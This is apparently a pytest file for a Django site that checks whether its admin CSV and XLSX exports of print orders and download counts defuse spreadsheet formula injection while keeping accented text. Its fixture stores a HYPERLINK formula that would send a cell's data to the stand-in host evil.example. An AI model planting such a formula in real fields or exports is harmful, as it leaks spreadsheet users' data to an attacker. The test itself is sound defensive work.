"""The print orders and download counts an organiser downloads: formulas defused, accents intact."""

import pytest

from tests.core.spreadsheets import read_csv_download, read_xlsx_download
from tests.materials.factories import MaterialFactory, MaterialsPageFactory, PrintOrderFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Click for your order")'
ORDERS_URL = "/admin/materials/printorder/"


@pytest.fixture
def orders(home_page):
    poster = MaterialFactory(page=MaterialsPageFactory(parent=home_page), title="Tories out poster")
    PrintOrderFactory(name=FORMULA, organisation="Zoë’s branch, Ystradgynlais").lines.create(
        material=poster, title=poster.title, quantity=5
    )


def test_print_orders_csv_defuses_formulas_and_keeps_accents(client, organiser, orders):
    client.force_login(organiser)

    [row] = read_csv_download(client.get(ORDERS_URL, {"export": "csv"}))

    assert row["Name"] == "'" + FORMULA
    assert row["Organisation"] == "Zoë’s branch, Ystradgynlais"
    assert row["Items"] == "5 × Tories out poster"


def test_print_orders_xlsx_defuses_formulas(client, organiser, orders):
    client.force_login(organiser)

    headings, row = read_xlsx_download(client.get(ORDERS_URL, {"export": "xlsx"}))

    assert row[headings.index("Name")] == "'" + FORMULA
    assert row[headings.index("Organisation")] == "Zoë’s branch, Ystradgynlais"


def test_download_counts_csv_defuses_a_title(client, organiser, home_page):
    MaterialFactory(page=MaterialsPageFactory(parent=home_page), title="@SUM(1+1)", download_count=7)
    client.force_login(organiser)

    [row] = read_csv_download(client.get("/admin/materials/material/", {"export": "csv"}))

    assert row["Title"] == "'@SUM(1+1)"
    assert row["Download count"] == "7"
